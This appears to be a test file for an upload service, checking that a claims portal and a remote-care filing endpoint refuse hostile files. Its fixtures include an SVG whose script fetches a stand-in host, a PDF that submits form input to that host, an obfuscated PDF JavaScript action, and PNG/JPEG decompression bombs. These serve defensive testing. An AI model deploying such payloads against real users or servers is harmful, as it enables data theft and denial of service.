import { deflateSync } from 'node:zlib'
import { isWhole } from '../../../mock-server/registers/files/sniff'
import { CHUNK_BYTES } from '../../../src/contract/papers/file'
import { openSandbox, type Sandbox, type SignedIn } from '../../shared/sandbox'
import { draft, issue, pathOf } from '../desk'
import { jpeg, paperPhoto, png } from '../pictures'

let sandbox: Sandbox
let zhou: SignedIn
let claimId: string

beforeAll(async () => {
  sandbox = await openSandbox()
  zhou = await sandbox.signIn('zhouxiao')
  claimId = await draft(zhou, (await issue(sandbox, zhou.personId, { supplied: [] })).invoiceId)
})
afterAll(() => sandbox.close())

/** The two doors: a claim's pages and a filing's. */
const doors = {
  claim: { path: () => pathOf(claimId, '/files'), role: { role: 'record' } },
  filing: { path: () => '/api/remote-care/materials', role: { kind: 'residence-proof' } },
} as const

async function upload(door: keyof typeof doors, bytes: Buffer, type: string) {
  const { path, role } = doors[door]
  const { fileId } = (await zhou.post(path(), { ...role, type, sizeBytes: bytes.length, faults: null })).body
  let answer = await zhou.post(`${path()}/${fileId}/pieces`, {
    from: 0,
    base64: bytes.subarray(0, CHUNK_BYTES).toString('base64'),
  })
  for (let from = CHUNK_BYTES; from < bytes.length && answer.status === 200; from += CHUNK_BYTES) {
    const base64 = bytes.subarray(from, from + CHUNK_BYTES).toString('base64')
    answer = await zhou.post(`${path()}/${fileId}/pieces`, { from, base64 })
  }
  return { answer, left: (await zhou.get(`${path()}/${fileId}`)).status }
}

/** A header that says 65,000 × 65,000 over a few bytes. */
function hugePng(): Buffer {
  const bomb = Buffer.from(png(8, 8, () => 255))
  bomb.writeUInt32BE(65_000, 16)
  bomb.writeUInt32BE(65_000, 20)
  return bomb
}

function hugeJpeg(): Buffer {
  const bomb = Buffer.from(paperPhoto(1))
  const frame = bomb.indexOf(Buffer.from([0xff, 0xc0]))
  bomb.writeUInt16BE(65_000, frame + 5)
  bomb.writeUInt16BE(65_000, frame + 7)
  return bomb
}

/** A small picture whose data unpacks to 50 MB: 50 KB on the way. */
function zipBomb(): Buffer {
  const whole = png(64, 64, () => 255)
  const packed = deflateSync(Buffer.alloc(50_000_000))
  const chunk = Buffer.alloc(packed.length + 12)
  chunk.writeUInt32BE(packed.length, 0)
  chunk.write('IDAT', 4, 'latin1')
  packed.copy(chunk, 8)
  return Buffer.concat([whole.subarray(0, 33), chunk, whole.subarray(whole.length - 12)])
}

const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//h99.example")</script></svg>')
const html = Buffer.from('<!doctype html><script>alert(1)</script>')
const zip = Buffer.from('PK\u0003\u0004 and so on, and so on')

const hostile: readonly [what: string, type: string, bytes: () => Buffer][] = [
  ['an SVG with a script, said to be a PNG', 'image/png', () => svg],
  ['an SVG with a script, said to be a JPEG', 'image/jpeg', () => svg],
  ['a web page, said to be a PDF', 'application/pdf', () => html],
  ['a zip, said to be a PDF', 'application/pdf', () => zip],
  ['a PNG, said to be a JPEG', 'image/jpeg', () => png(8, 8, () => 255)],
  ['a JPEG, said to be a PNG', 'image/png', () => paperPhoto(1)],
  ['a JPEG cut short', 'image/jpeg', () => jpeg(2000).subarray(0, 1500)],
  ['a PNG cut short', 'image/png', () => png(64, 64, (x) => x).subarray(0, 60)],
  ['a PDF with a script', 'application/pdf', () => Buffer.from('%PDF-1.4\n1 0 obj<</JavaScript 2 0 R>>\n%%EOF')],
  [
    'a PDF with a file packed into it',
    'application/pdf',
    () => Buffer.from('%PDF-1.4\n<</EmbeddedFile 2 0 R>>\n%%EOF'),
  ],
  [
    'a PDF with a script under another spelling of its name',
    'application/pdf',
    () => Buffer.from('%PDF-1.4\n1 0 obj<</OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>>>\n%%EOF'),
  ],
  [
    'a PDF with a file packed into it that does not say so',
    'application/pdf',
    () => Buffer.from('%PDF-1.4\n<</Names<</EmbeddedFiles 3 0 R>>/EF<</F 5 0 R>>>>\n%%EOF'),
  ],
  [
    'a PDF that sends what is typed into it',
    'application/pdf',
    () => Buffer.from('%PDF-1.4\n<</AA<</O<</S/SubmitForm/F(http://h99.example)>>>>>>\n%%EOF'),
  ],
  ['a PNG of 4 billion points', 'image/png', hugePng],
  ['a JPEG of 4 billion points', 'image/jpeg', hugeJpeg],
  ['a PNG that unpacks to more than it says', 'image/png', zipBomb],
]

describe.each(['claim', 'filing'] as const)('to a %s', (door) => {
  test.each(hostile)('%s is refused and leaves nothing behind', async (_what, type, bytes) => {
    const { answer, left } = await upload(door, bytes(), type)
    expect(answer.body.code).toBe('file-refused')
    expect(left).toBe(404)
  })
})

test('a scanned PDF is taken, also where its picture happens to hold the letters of a script', () => {
  const scan = Buffer.concat([
    Buffer.from('%PDF-1.4\n1 0 obj<</Subtype/Image/Filter/DCTDecode/Length 24>>stream\n'),
    Buffer.from('\u0080/JS\u0081#/EF\u0082/JSON #4a', 'latin1'),
    Buffer.from('\nendstream endobj\n%%EOF'),
  ])
  expect(isWhole('application/pdf', scan)).toBe(true)
})

test('a type that is not taken is not even announced', async () => {
  for (const type of ['image/svg+xml', 'text/html', 'application/zip', 'image/gif'])
    expect(
      (await zhou.post(pathOf(claimId, '/files'), { role: 'record', type, sizeBytes: 100, faults: null })).status,
    ).toBe(400)
})

test('what is refused is refused without being unpacked: no more than 100 ms of work each', () => {
  for (const [type, bytes] of [
    ['image/png', hugePng()],
    ['image/jpeg', hugeJpeg()],
    ['image/png', zipBomb()],
  ] as const) {
    const before = process.memoryUsage().arrayBuffers
    const start = performance.now()
    expect(isWhole(type, bytes)).toBe(false)
    expect(performance.now() - start).toBeLessThan(100)
    expect(process.memoryUsage().arrayBuffers - before).toBeLessThan(4_000_000)
  }
})
